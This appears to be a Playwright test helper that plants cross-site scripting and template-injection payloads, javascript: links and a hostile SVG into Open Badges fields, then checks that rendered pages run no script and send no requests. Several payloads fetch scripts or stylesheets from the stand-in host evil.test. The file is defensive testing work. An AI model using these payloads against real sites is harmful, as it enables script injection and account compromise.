import { type BrowserContext, expect, type Frame, type Page } from '@playwright/test'
import type { AssertionHost } from './assertion-host.ts'

/** Each would run something, or ask evil.test for something, where text is taken for markup, script, style or a link. */
export const PAYLOADS = [
  '<script>pwned=1</script>',
  '"><img src=http://evil.test/x onerror=pwned=1>',
  "'><svg onload=pwned=1>",
  '</title></textarea></script></style><script>pwned=1</script>',
  '<iframe src="javascript:parent.pwned=1" srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<a href="javascript:pwned=1">x</a><form action=http://evil.test/><button>Add</button></form>',
  '[x](javascript:pwned=1) ![x](http://evil.test/y) <http://evil.test/>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template of somebody else's
  '{{constructor.constructor("pwned=1")()}} ${pwned=1} #{pwned=1} <%= pwned=1 %>',
  '<base href=http://evil.test/><meta http-equiv=refresh content="0;url=http://evil.test/">',
  '<style>@import "http://evil.test/z"</style><link rel=stylesheet href=http://evil.test/w>',
  '\u202e<img src=1 onerror=pwned=1>\u2028pwned=1\u2029',
  '&lt;img src=x onerror=pwned=1&gt; %3Cscript%3Epwned=1%3C/script%3E \\u003cscript\\u003epwned=1',
  'x" onmouseover="pwned=1" autofocus onfocus="pwned=1" style="background:url(http://evil.test/v)',
]
const LINKS = [
  'javascript:pwned=1',
  'JaVaScRiPt:pwned=1//',
  'data:text/html,<script>pwned=1</script>',
  'java\nscript:pwned=1',
]

/** A picture that would run something, or ask evil.test for something, wherever it is more than a picture. */
const PICTURE = `<?xml version="1.0"?><?xml-stylesheet href="http://evil.test/a.css"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64" onload="pwned=1;alert(1)">
<script>pwned=1;alert(2)</script><script href="http://evil.test/b.js"/><rect width="64" height="64" fill="green" onclick="pwned=1"/>
<style>@import "http://evil.test/c.css"; rect{fill:url(http://evil.test/d.svg#e)}</style>
<image href="http://evil.test/f.png" width="9" height="9"/><image xlink:href="//evil.test/g.png" width="9" height="9"/>
<use href="http://evil.test/h.svg#i"/><a href="javascript:alert(3)"><text y="9">x</text></a>
<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(4)"/></foreignObject>
<animate attributeName="href" to="javascript:alert(5)"/></svg>`

/** Puts a badge whose every field is one of them; returns the URL of its assertion. */
export function putHostile(host: AssertionHost, address: string, id: string, at: number): string {
  const text = (offset: number) => PAYLOADS[(at + offset) % PAYLOADS.length] ?? ''
  const link = (offset: number) => LINKS[(at + offset) % LINKS.length] ?? ''
  const issuer = host.put(`/${id}-issuer.json`, {
    body: {
      '@context': 'https://w3id.org/openbadges/v2',
      type: 'Issuer',
      id: `${host.origin}/${id}-issuer.json`,
      name: text(0),
      url: `${host.origin}/"><script>pwned=1</script>`,
      email: text(1),
      description: text(2),
      telephone: text(3),
    },
  })
  const image = host.put(`/${id}.svg`, { type: 'image/svg+xml', body: PICTURE })
  return host.putBadge({
    address,
    id,
    name: text(3),
    badgeClass: {
      issuer,
      image,
      description: text(4),
      criteria: { id: link(0), narrative: text(5) },
      tags: [text(6), text(7)],
      alignment: [
        { targetName: text(8), targetUrl: link(1), targetDescription: text(9), targetCode: text(10) },
      ],
    },
    assertion: {
      narrative: text(11),
      evidence: [
        {
          id: link(2),
          name: text(12),
          narrative: text(0),
          description: text(1),
          genre: text(2),
          audience: text(3),
        },
        link(3),
      ],
    },
  })
}

/** Notes in every document of a context what an injection would do. */
export async function watchForAlarms(context: BrowserContext) {
  const alarms: string[] = []
  context.on('dialog', (dialog) => {
    alarms.push(`a dialog: ${dialog.message()}`)
    void dialog.dismiss()
  })
  context.on('request', (request) => {
    if (new URL(request.url()).hostname === 'evil.test') alarms.push(`a request: ${request.url()}`)
  })
  await context.exposeBinding('alarm', (_source, what: string) => alarms.push(what))
  await context.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      const { alarm } = window as unknown as { alarm: (what: string) => void }
      alarm(`${event.violatedDirective} kept off ${event.blockedURI} at ${location.pathname}`)
    })
  })
  return alarms
}

/** What should not be in a document of ours, whatever badge it shows. */
export async function findInjected(frame: Frame): Promise<string[]> {
  return frame.evaluate(() => {
    const found = Reflect.has(window, 'pwned') ? ['a script ran'] : []
    for (const element of document.querySelectorAll('*')) {
      for (const { name, value } of element.attributes) {
        if (name.startsWith('on') || name === 'style' || name === 'srcdoc') found.push(`${name}=${value}`)
        const isLink = ['href', 'src', 'action', 'formaction', 'data'].includes(name)
        if (isLink && /^\s*(javascript|data|vbscript):/i.test(value)) found.push(`${name}=${value}`)
        const leadsTo =
          isLink && URL.canParse(value, document.baseURI) ? new URL(value, document.baseURI).host : ''
        if (leadsTo === 'evil.test') found.push(`${name}=${value}`)
      }
      const isOurs =
        element.tagName !== 'SCRIPT' ||
        element.getAttribute('type') === 'application/ld+json' ||
        !element.textContent.includes('pwned')
      if (!isOurs || /^(BASE|IFRAME|OBJECT|EMBED|STYLE)$/.test(element.tagName)) found.push(element.outerHTML)
    }
    return found
  })
}

export const openDetails = (frame: Frame) =>
  frame.evaluate(() => {
    for (const details of document.querySelectorAll('details')) details.open = true
  })

export async function expectClean(page: Page, root: string): Promise<void> {
  for (const frame of page.frames().filter((each) => each.url().startsWith(root))) {
    await openDetails(frame)
    expect(await findInjected(frame), frame.url()).toEqual([])
  }
}
